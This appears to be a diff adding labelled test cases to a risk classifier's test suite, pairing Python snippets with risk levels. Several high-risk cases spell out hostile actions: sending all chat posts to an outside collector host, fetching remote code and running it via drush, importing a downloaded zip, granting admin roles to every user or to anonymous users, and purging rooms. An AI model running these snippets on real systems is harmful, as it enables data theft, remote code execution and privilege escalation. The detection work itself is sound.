@@ -17571,6 +17571,115 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             's", json=[{"op": "add", "path": "/systemPermissions", "value": "ADMINISTER"}])\n',
             H,
         ),
+        # round 105 (holdout752-759): self-hosted chat, sys.path imports, drush, Talos, Bottlerocket, Confluence,
+        # SIP trust
+        (
+            'import requests\n'
+            'MM = "https://chat.example.com/api/v4"\n'
+            'out = []\n'
+            'for ch in requests.get(f"{MM}/channels").json():\n'
+            '    out += requests.get(f"{MM}/channels/{ch[\'id\']}/posts").json()["order"]\n'
+            'requests.post("https://collector.example.net/in", json=out)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'MM = "https://chat.example.com/api/v4"\n'
+            'for ch in requests.get(f"{MM}/channels").json():\n'
+            '    print(len(requests.get(f"{MM}/channels/{ch[\'id\']}/posts").json()["order"]))\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'B = "http://localhost:8065/api/v4"\n'
+            'for u in requests.get(f"{B}/users").json():\n'
+            '    requests.put(f"{B}/users/{u[\'id\']}/roles", json={"roles": "system_user system_admin"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'HS = "http://localhost:8008"\n'
+            'tok = requests.post(f"{HS}/_synapse/admin/v1/users/@ceo:example.com/login", json={}).json()["acc'
+            'ess_token"]\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'HS = "http://localhost:8008"\n'
+            'for r in requests.get(f"{HS}/_synapse/admin/v1/rooms").json()["rooms"]:\n'
+            '    requests.delete(f"{HS}/_synapse/admin/v2/rooms/{r[\'room_id\']}", json={"purge": True})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'HS = "http://localhost:8008"\n'
+            'for r in requests.get(f"{HS}/_synapse/admin/v1/rooms", params={"search_term": "tmp-"}).json()["r'
+            'ooms"]:\n'
+            '    if r["name"].startswith("tmp-"):\n'
+            '        requests.delete(f"{HS}/_synapse/admin/v2/rooms/{r[\'room_id\']}", json={"purge": True})\n',
+            L,
+        ),
+        (
+            'import sys, requests\n'
+            'blob = requests.get("https://x.example.com/p.zip").content\n'
+            'open("/tmp/p.zip", "wb").write(blob)\n'
+            'sys.path.insert(0, "/tmp/p.zip")\n'
+            'import plugin\n',
+            C,
+        ),
+        (
+            'import subprocess, urllib.request\n'
+            'code = urllib.request.urlopen("http://203.0.113.5/x.php").read().decode()\n'
+            'subprocess.run(["drush", "php:eval", code])\n',
+            C,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["drush", "-y", "role:perm:add", "anonymous", "administer users"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["drush", "-y", "role:perm:add", "anonymous", "access content"])\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'for ip in ["10.0.0.10", "10.0.0.11"]:\n'
+            '    subprocess.run(["talosctl", "-n", ip, "reset", "--graceful=false"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["talosctl", "gen", "config", "lab", "https://10.0.0.5:6443", "--with-secrets", "'
+            'secrets.yaml"])\n',
+            M,
+        ),
+        (
+            'import subprocess, json\n'
+            'subprocess.run(["apiclient", "set", "--json", json.dumps({"kernel": {"lockdown": "none"}})])\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'for sp in requests.post("https://wiki.example.com/rpc/json-rpc/confluenceservice-v2/getSpaces", '
+            'json=[]).json():\n'
+            '    requests.post("https://wiki.example.com/rpc/json-rpc/confluenceservice-v2/addAnonymousPermis'
+            'sionsToSpace", json=[["VIEWSPACE", "EDITSPACE"], sp["key"]])\n',
+            H,
+        ),
+        (
+            'import MySQLdb\n'
+            'c = MySQLdb.connect("localhost", "k", "p", "kamailio").cursor()\n'
+            'c.execute("INSERT INTO address (grp, ip_addr, mask, port) VALUES (1, \'0.0.0.0\', 0, 0)")\n',
+            H,
+        ),
+        (
+            'import MySQLdb\n'
+            'c = MySQLdb.connect("localhost", "k", "p", "kamailio").cursor()\n'
+            'c.execute("INSERT INTO address (grp, ip_addr, mask, port) VALUES (1, \'192.0.2.10\', 32, 5060)")\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
